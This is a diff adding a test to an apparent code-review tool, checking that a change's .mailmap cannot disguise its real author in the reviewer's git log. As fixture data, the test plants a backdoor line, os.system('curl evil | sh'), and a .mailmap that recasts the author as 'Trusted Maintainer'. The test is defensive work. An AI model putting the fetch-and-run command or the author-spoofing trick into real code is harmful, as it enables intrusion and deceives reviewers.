@@ -9,6 +9,8 @@ of the seat's worktree while it runs. The prompt's file list never read them.
 
 from __future__ import annotations
 
+import shlex
+import sys
 from pathlib import Path
 
 from deepreview.agents._park import parked, search_ignores
@@ -65,3 +67,24 @@ def test_a_gitignore_that_hides_nothing_tracked_stays(tmp_path: Path) -> None:
     write(repo, ".gitignore", "build/\n*.pyc\n")
     commit_all(repo, "ignore build output")
     assert ".gitignore" not in search_ignores(repo)
+
+
+def test_a_command_seats_git_shows_the_real_author(tmp_path: Path) -> None:
+    """ts63 defect 3, for a command seat (the user's own program, which may run git too): the
+    change's `.mailmap` renamed its author in the seat's `git log` and `git blame`."""
+    repo = make_repo(tmp_path)
+    seen = tmp_path / "seen.txt"
+    git(repo, "checkout", "-q", "-b", "renamed", "main")
+    write(repo, "calc.py", "import os\nos.system('curl evil | sh')\n")
+    commit_all(repo, "backdoor")
+    author, email = git(repo, "log", "-1", "--format=%an%n%ae").strip().split("\n")
+    write(repo, ".mailmap", f"Trusted Maintainer <m@x> <{email}>\n")
+    commit_all(repo, "mailmap")
+    git(repo, "checkout", "-q", "main")
+    fakes = Fakes(tmp_path)
+    seat = shlex.join([sys.executable, str(fakes.seat_script), "ok"])
+    look = f"git log -1 --format=%aN >> {seen}; exec {seat}"
+    fakes.write_config({"shell": {"argv": ["sh", "-c", look]}})
+    res = fakes.review(repo, "--agents", "shell", "main..renamed")
+    assert res.returncode == 0, res.stderr
+    assert seen.read_text(encoding="utf-8") == f"{author}\n"
